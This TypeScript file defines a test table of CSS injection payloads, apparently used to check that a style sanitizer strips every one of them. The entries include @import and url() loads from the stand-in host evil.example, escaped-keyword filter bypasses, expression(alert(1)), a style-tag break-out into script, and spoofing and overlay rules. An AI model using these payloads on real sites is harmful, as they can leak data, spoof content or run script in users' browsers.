/** Styles that load, run, overlay, leak or hide: nothing of any of these may remain. */
export const CSS_ATTACKS = [
  '@import "https://evil.example/a.css";', '@import url(//evil.example);', '@font-face{font-family:x;src:url(https://evil.example/f)}', '@charset "utf-8";',
  '@namespace svg url(http://www.w3.org/2000/svg);', '@keyframes x{from{top:0}to{top:9px}}', '@property --x{syntax:"*";inherits:false}', '@page{margin:0}',
  '@layer a{h2{color:red}}', '@container (width>1px){h2{color:red}}', '@supports (color:red){h2{color:red}}', '@scope (.v){.ov{display:none}}', '@starting-style{h2{color:red}}',
  '@media screen{@import "x";}', '@media \\73 creen{h2{color:red}}', '@document url(http://x){h2{color:red}}', '@counter-style x{symbols:url(x)}',
  'h2{background:url(https://evil.example/a.png)}', 'h2{background:URL("https://evil.example/a")}', 'h2{background:u\\72l(https://evil.example/a)}', 'h2{background:\\75rl(https://evil.example)}',
  'h2{background-image:image-set("https://evil.example/a" 1x)}', 'h2{background-image:-webkit-image-set(url(x) 1x)}', 'h2{background:image("https://evil.example/a")}', 'h2{background:src("x")}',
  'h2{background:cross-fade(url(a),url(b))}', 'h2{background:element(#x)}', 'h2{background:paint(x)}', 'h2{background:linear-gradient(red,url(x))}', 'h2{background:var(--x,url(https://evil.example))}',
  'h2{color:attr(title)}', 'h2{width:expression(alert(1))}', 'h2{width:env(x)}', 'h2{cursor:url(https://evil.example/c),auto}', 'h2{list-style-image:url(x)}', 'h2{list-style:url(x)}',
  'h2{border-image:url(x) 1}', 'h2{filter:url(https://evil.example/f#x)}', 'h2{mask:url(x)}', 'h2{clip-path:url(#x)}', 'h2{offset-path:url(x)}', 'h2{shape-outside:url(x)}', 'h2{behavior:url(x)}',
  'h2{-moz-binding:url(x)}', 'h2::before{content:"All systems operational"}', 'h2{content:url(x)}', 'h2::after{color:red}', 'h2{position:fixed}', 'h2{position:absolute;inset:0}', 'h2{top:-99px}',
  'h2{z-index:99999}', 'h2{transform:translateY(-500px)}', 'h2{translate:0 -500px}', 'h2{scale:99}', 'h2{rotate:1deg}', 'h2{float:left}', 'h2{animation:x 1s}', 'h2{transition:all 1s}', 'h2{will-change:transform}',
  'h2{pointer-events:none}', 'h2{anchor-name:--x}', 'h2{--x:url(https://evil.example)}', 'h2{all:unset}', 'h2{contain:none}', 'h2{clip:rect(0 0 0 0)}', 'h2{visibility:hidden}', 'h2{backdrop-filter:blur(9px)}',
  'h2{mix-blend-mode:difference}', 'h2{zoom:9}', 'h2{view-transition-name:x}', 'h2{font-family:url(x)}', 'h2{color:red}}', '</style><script>alert(1)</script>', 'h2{color:"</style>"}',
  '+ .v{color:red}', '~ .v{color:red}', '> .v{color:red}', ':root{color:red;', 'h2:has(a){color:red}', ':host{color:red}', 'h2::part(x){color:red}', 'h2{& .v{color:red}}', '.\\76{color:red}', 'h2{c\\6flor:red}',
  'h2{color:re\\64}', '@\\69mport "x";', '<!-- h2{color:red} -->', 'h2{color:red', 'h2{color:javascript:alert(1)}', '{color:red}', 'h2{}', '',
] // biome-ignore format: a table
